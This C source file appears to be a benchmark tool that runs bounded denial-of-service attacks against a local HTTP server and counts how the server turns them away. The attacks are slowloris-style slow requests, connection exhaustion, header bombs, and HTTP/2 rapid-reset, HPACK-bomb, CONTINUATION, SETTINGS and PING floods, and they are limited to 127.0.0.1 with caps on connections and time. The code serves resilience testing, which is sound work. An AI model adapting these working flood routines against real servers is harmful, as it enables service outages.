/* SPDX-License-Identifier: MIT */
/*
 * Clients that want to harm a server of HTTP on 127.0.0.1. It is bounded in all it does: connections,
 * time, and nobody but this machine.
 *
 *     hostile ATTACK --port P [--h2-port P] [--connections C] [--seconds S]
 *
 * It prints "ready" when the attack has been under way for a moment, goes on until SIGTERM or for S
 * seconds, and prints what became of it: connections, how often it did what the attack consists of, and how
 * often it was turned away, by what.
 *
 * Who is turned away comes again, after 20 ms.
 *
 * `tls-hello` is for a server over TLS, such as hob_https, and in none of the tables.
 */
#include <stdbool.h>

#include <hob.h>

#include "bench.h"

enum { CONNECTIONS_MAX = 20000, FROM_EACH_ADDRESS = 2000, BURST_BYTES = 16384, SECONDS_MAX = 60 };

struct foe;

struct attack {
    const char *name;
    int         connections;
    bool        is_http2;
    int (*say)(struct foe *foe); /* in a task beside the one that reads; until an error */
    int         read_each_ms;    /* a byte at a time, so often; 0: all that comes       */
    int         recv_buf_bytes;
};

struct foe {
    int      number;
    hob_tcp *tcp;
    uint32_t next_id; /* HTTP/2 */
    size_t   skip;    /* bytes of a frame that are still to come */
    size_t   frame_got;
    uint8_t  frame[9];
    bool     was_told; /* something other than 200 */
};

static struct {
    const struct attack *attack;
    uint16_t             port;
    int                  connections, seconds;
} opts = { .seconds = 30 };

static struct {
    uint64_t connected, not_connected, did, closed, told_408, told_431, told_503, told_else, goaways;
} count;

static char burst[BURST_BYTES]; /* what is said again and again, of burst_len */
static size_t burst_len;

static int say_bytes(struct foe *foe, const void *bytes, size_t len)
{
    ssize_t n = HOB_TRY(hob_tcp_write(foe->tcp, bytes, len));
    return n < 0 ? (int)n : 0;
}

static int say_text(struct foe *foe, const char *text)
{
    return say_bytes(foe, text, strlen(text));
}

/* ---- slow ones ---- */

static int drip(struct foe *foe, const char *text)
{
    int64_t each_ns = HOB_SEC;

    HOB_TRY(hob_sleep(each_ns * (foe->number % 1000) / 1000)); // not all of them in step
    for (;;) {
        HOB_TRY(say_bytes(foe, *text != '\0' ? text++ : "x", 1));
        count.did++;
        HOB_TRY(hob_sleep(each_ns));
    }
}

static int slow_head(struct foe *foe)
{
    HOB_TRY(say_text(foe, "GET /json HTTP/1.1\r\nHo"));
    return drip(foe, "st: a\r\nX-Wait: ");
}

static int slow_body(struct foe *foe)
{
    HOB_TRY(say_text(foe, "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\nx"));
    return drip(foe, "");
}

static int slow_reader(struct foe *foe)
{
    count.did++;
    return say_text(foe, "GET /big HTTP/1.1\r\nHost: a\r\n\r\n");
}

/* Half a ClientHello, of a server over TLS; the rest comes in crumbs. */
static int tls_hello(struct foe *foe)
{
    static const char HALF[] = "\x16\3\1\2\0\1\0\1\xfc\3\3";
    HOB_TRY(say_bytes(foe, HALF, sizeof HALF - 1));
    return drip(foe, "");
}

/* ---- many ---- */

static int ask_once(struct foe *foe)
{
    count.did++;
    return say_text(foe, "GET /json HTTP/1.1\r\nHost: a\r\n\r\n");
}

static int say_nothing(struct foe *foe)
{
    (void)foe;
    count.did++;
    return 0;
}

/* Connects and goes, as fast as it can. */
static int come_and_go(struct foe *foe)
{
    (void)foe;
    count.did++;
    return -ECANCELED;
}

/* ---- much ---- */

static int say_burst(struct foe *foe)
{
    for (;;) {
        HOB_TRY(say_bytes(foe, burst, burst_len));
        count.did++;
    }
}

static void fill_burst(const char *text)
{
    size_t len = strlen(text);
    while (burst_len + len <= sizeof burst) {
        memcpy(burst + burst_len, text, len);
        burst_len += len;
    }
}

static int pipeline(struct foe *foe)
{
    if (burst_len == 0)
        fill_burst("GET /json HTTP/1.1\r\nHost: a\r\n\r\n");
    return say_burst(foe);
}

/* A head of headers without end. */
static int head_bomb(struct foe *foe)
{
    if (burst_len == 0)
        fill_burst("X-A: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n");
    HOB_TRY(say_text(foe, "GET /json HTTP/1.1\r\nHost: a\r\n"));
    return say_burst(foe);
}

/* ---- HTTP/2 ---- */

enum { HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, PING = 6, GOAWAY = 7, CONTINUATION = 9,
       END_STREAM = 1, END_HEADERS = 4 };

static size_t put_frame(uint8_t *to, int type, int flags, uint32_t id, const void *bytes, size_t len)
{
    uint8_t head[9] = { (uint8_t)(len >> 16), (uint8_t)(len >> 8), (uint8_t)len, (uint8_t)type,
                        (uint8_t)flags, (uint8_t)(id >> 24), (uint8_t)(id >> 16), (uint8_t)(id >> 8),
                        (uint8_t)id };
    memcpy(to, head, sizeof head);
    memcpy(to + sizeof head, bytes, len);
    return sizeof head + len;
}

/* GET http://a/json in HPACK: indexed fields, and literals that are not indexed. */
static const char REQUEST[] = "\x82\x86\x04\x05/json\x01\x01" "a";
enum { REQUEST_LEN = sizeof REQUEST - 1 };

static int say_preface(struct foe *foe)
{
    static const char PREFACE[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" "\0\0\0\4\0\0\0\0\0";
    foe->next_id = 1;
    return say_bytes(foe, PREFACE, sizeof PREFACE - 1);
}

/* Requests, each taken back at once. */
static int rapid_reset(struct foe *foe)
{
    uint8_t bytes[4096];

    HOB_TRY(say_preface(foe));
    for (;;) {
        size_t len = 0;
        while (len + 60 < sizeof bytes) {
            len += put_frame(bytes + len, HEADERS, END_STREAM | END_HEADERS, foe->next_id, REQUEST,
                             REQUEST_LEN);
            len += put_frame(bytes + len, RST_STREAM, 0, foe->next_id, "\0\0\0\10", 4);
            foe->next_id += 2;
            count.did++;
        }
        HOB_TRY(say_bytes(foe, bytes, len));
    }
}

/* A head of four kilobytes in the table, and thousands of references to it. */
static int hpack_bomb(struct foe *foe)
{
    enum { VALUE = 3900, LENGTH = 16000 };
    uint8_t block[LENGTH], bytes[9 + LENGTH];

    HOB_TRY(say_preface(foe));
    for (;;) {
        size_t len = REQUEST_LEN;
        memcpy(block, REQUEST, REQUEST_LEN);
        if (foe->next_id == 1) {
            static const uint8_t literal[] = { 0x40, 1, 'x', 127, (VALUE - 127) % 128 + 128,
                                               (VALUE - 127) / 128 };
            memcpy(block + len, literal, sizeof literal);
            memset(block + len + sizeof literal, 'y', VALUE);
            len += sizeof literal + VALUE;
        }
        memset(block + len, 0x80 | 62, LENGTH - len);
        len = put_frame(bytes, HEADERS, END_STREAM | END_HEADERS, foe->next_id, block, LENGTH);
        HOB_TRY(say_bytes(foe, bytes, len));
        foe->next_id += 2;
        count.did++;
        HOB_TRY(hob_sleep(2 * HOB_MSEC));
    }
}

static int continue_for_ever(struct foe *foe)
{
    uint8_t bytes[1024], fields[200];

    memset(fields, 0x82, sizeof fields);
    HOB_TRY(say_preface(foe));
    size_t len = put_frame(bytes, HEADERS, END_STREAM, 1, REQUEST, REQUEST_LEN);
    HOB_TRY(say_bytes(foe, bytes, len));
    for (;;) {
        for (len = 0; len + 209 <= sizeof bytes; count.did++)
            len += put_frame(bytes + len, CONTINUATION, 0, 1, fields, sizeof fields);
        HOB_TRY(say_bytes(foe, bytes, len));
    }
}

static int flood(struct foe *foe, int type, const char *payload, size_t payload_len)
{
    uint8_t bytes[1024];
    size_t  len = 0;

    HOB_TRY(say_preface(foe));
    while (len + 9 + payload_len <= sizeof bytes)
        len += put_frame(bytes + len, type, 0, 0, payload, payload_len);
    for (;;) {
        HOB_TRY(say_bytes(foe, bytes, len));
        count.did += len / (9 + payload_len);
    }
}

static int settings_flood(struct foe *foe)
{
    return flood(foe, SETTINGS, "\0\3\0\0\0\144", 6);
}

static int ping_flood(struct foe *foe)
{
    return flood(foe, PING, "12345678", 8);
}

static const struct attack ATTACKS[] = {
    { "none", 0, false, say_nothing, 0, 0 },
    { "slow-heads", 2000, false, slow_head, 0, 0 },
    { "slow-bodies", 2000, false, slow_body, 0, 0 },
    { "slow-readers", 2000, false, slow_reader, 1000, 4096 },
    { "tls-hello", 2000, false, tls_hello, 0, 0 },
    { "idle", 18000, false, ask_once, 0, 0 },
    { "silent", 12000, false, say_nothing, 0, 0 },
    { "come-and-go", 8, false, come_and_go, 0, 0 },
    { "pipeline", 8, false, pipeline, 0, 0 },
    { "head-bomb", 16, false, head_bomb, 0, 0 },
    { "hpack-bomb", 16, true, hpack_bomb, 0, 0 },
    { "continuation", 16, true, continue_for_ever, 0, 0 },
    { "rapid-reset", 16, true, rapid_reset, 0, 0 },
    { "settings", 16, true, settings_flood, 0, 0 },
    { "ping", 16, true, ping_flood, 0, 0 },
};

/* ---- what they are told ---- */

static void look_at_text(struct foe *foe, const char *bytes, size_t len)
{
    if (foe->was_told || len < 12 || memcmp(bytes, "HTTP/1.1 ", 9) != 0)
        return;
    int status = atoi(bytes + 9);
    foe->was_told = status != 200;
    if (status == 408)
        count.told_408++;
    else if (status == 431 || status == 400) // nginx says the one, and means the other
        count.told_431++;
    else if (status == 503)
        count.told_503++;
    else if (status != 200)
        count.told_else++;
}

static void look_at_frames(struct foe *foe, const char *bytes, size_t len)
{
    while (len > 0) {
        if (foe->skip > 0) {
            size_t n = foe->skip < len ? foe->skip : len;
            foe->skip -= n;
            bytes += n;
            len -= n;
            continue;
        }
        foe->frame[foe->frame_got++] = (uint8_t)*bytes++;
        len--;
        if (foe->frame_got < sizeof foe->frame)
            continue;
        foe->frame_got = 0;
        foe->skip = (size_t)foe->frame[0] << 16 | (size_t)foe->frame[1] << 8 | foe->frame[2];
        if (foe->frame[3] == GOAWAY && !foe->was_told) {
            foe->was_told = true;
            count.goaways++;
        }
    }
}

static void hear(struct foe *foe)
{
    const struct attack *attack = opts.attack;
    char                 buf[16384];
    ssize_t              n;

    while ((n = hob_tcp_read(foe->tcp, buf, attack->read_each_ms > 0 ? 1 : sizeof buf)) > 0) {
        if (attack->is_http2)
            look_at_frames(foe, buf, (size_t)n);
        else
            look_at_text(foe, buf, (size_t)n);
        if (attack->read_each_ms > 0 && hob_sleep(attack->read_each_ms * HOB_MSEC) < 0)
            break;
    }
    if (hob_cancelled() == 0 && !foe->was_told)
        count.closed++;
}

/* ---- one of them ---- */

static int say(void *arg)
{
    struct foe *foe = arg;
    (void)!opts.attack->say(foe); // an error is the server's answer, which is being read
    return 0;
}

static int connect_one(struct foe *foe)
{
    hob_addr     to = hob_addr_loopback(opts.port), from = hob_addr_loopback(0);
    hob_tcp_opts how = { .local = &from, .recv_buf_bytes = opts.attack->recv_buf_bytes };
    char         text[32];

    snprintf(text, sizeof text, "127.0.1.%d:0", 1 + foe->number / FROM_EACH_ADDRESS);
    HOB_TRY(hob_addr_parse(text, &from));
    HOB_TRY(hob_tcp_connect(&to, &how, &foe->tcp));
    return hob_tcp_set_option(foe->tcp, HOB_OPT_RESET_ON_CLOSE, 1); // leaves no port taken
}

static int harm(void *arg)
{
    struct foe *foe = arg;

    while (hob_cancelled() == 0) {
        foe->tcp = NULL;
        foe->skip = foe->frame_got = 0;
        foe->was_told = false;
        int r = connect_one(foe);
        if (r >= 0) {
            count.connected++;
            if (opts.attack->say == come_and_go) {
                count.did++;
            } else {
                HOB_SCOPE(s);
                hob_go(&s, say, foe);
                hear(foe);
                hob_scope_cancel(&s, "it was turned away");
                (void)!hob_scope_end(&s);
            }
        } else if (r != -ECANCELED) {
            count.not_connected++;
        }
        hob_tcp_close(foe->tcp);
        if (r < 0 || opts.attack->say != come_and_go)
            HOB_TRY(hob_sleep(20 * HOB_MSEC));
    }
    return 0;
}

static void tell(double seconds)
{
    bench_print("attackers", opts.connections);
    bench_print("connected", (double)count.connected);
    bench_print("not_connected", (double)count.not_connected);
    bench_print("did_per_s", (double)count.did / seconds);
    bench_print("told_408", (double)count.told_408);
    bench_print("told_431", (double)count.told_431);
    bench_print("told_503", (double)count.told_503);
    bench_print("told_else", (double)count.told_else);
    bench_print("goaways", (double)count.goaways);
    bench_print("closed", (double)count.closed);
}

/* A hundred at once come, so that the server's queue is not what is measured. */
static int begin(hob_scope *scope, struct foe *foes)
{
    for (int i = 0; i < opts.connections; i++) {
        foes[i].number = i;
        hob_go(scope, harm, &foes[i]);
        if (i % 100 == 99)
            HOB_TRY(hob_sleep(2 * HOB_MSEC));
    }
    HOB_TRY(hob_sleep(300 * HOB_MSEC));
    printf("ready\n");
    fflush(stdout);
    return 0;
}

static int attack(void *arg)
{
    struct foe *foes = arg;
    int64_t     began = hob_now();
    hob_scope   scope;

    hob_scope_begin(&scope);
    hob_scope_deadline(&scope, hob_in(opts.seconds * HOB_SEC));
    int r = begin(&scope, foes);
    if (r >= 0)
        r = hob_event_wait(hob_stopping());
    hob_scope_cancel(&scope, "it is over");
    (void)!hob_scope_end(&scope);
    tell((double)(hob_now() - began) / HOB_SEC);
    return 0;
}

static void usage(void)
{
    fprintf(stderr, "usage: hostile ATTACK --port P [--h2-port P] [--connections C] [--seconds S]\n"
                    "attacks:");
    for (size_t i = 0; i < sizeof ATTACKS / sizeof *ATTACKS; i++)
        fprintf(stderr, " %s", ATTACKS[i].name);
    fprintf(stderr, "\n");
    exit(2);
}

static void read_args(int argc, char **argv)
{
    uint16_t h2_port = 0;

    for (size_t i = 0; argc > 1 && i < sizeof ATTACKS / sizeof *ATTACKS; i++)
        if (strcmp(argv[1], ATTACKS[i].name) == 0)
            opts.attack = &ATTACKS[i];
    if (opts.attack == NULL)
        usage();
    opts.connections = opts.attack->connections;
    for (int i = 2; i + 1 < argc; i += 2) {
        int v = atoi(argv[i + 1]);
        if (strcmp(argv[i], "--port") == 0)
            opts.port = (uint16_t)v;
        else if (strcmp(argv[i], "--h2-port") == 0)
            h2_port = (uint16_t)v;
        else if (strcmp(argv[i], "--connections") == 0)
            opts.connections = v;
        else if (strcmp(argv[i], "--seconds") == 0)
            opts.seconds = v;
        else
            usage();
    }
    if (opts.attack->is_http2 && h2_port != 0)
        opts.port = h2_port;
    if (opts.port == 0 || opts.connections < 0 || opts.connections > CONNECTIONS_MAX
        || opts.seconds < 1 || opts.seconds > SECONDS_MAX)
        usage();
}

int main(int argc, char **argv)
{
    read_args(argc, argv);
    alarm((unsigned)opts.seconds + 10);
    struct foe *foes = calloc((size_t)opts.connections + 1, sizeof *foes);
    if (foes == NULL)
        bench_die("hostile");
    return hob_run_with(&(hob_run_opts){ .workers = 1 }, attack, foes) == 0 ? 0 : 1;
}
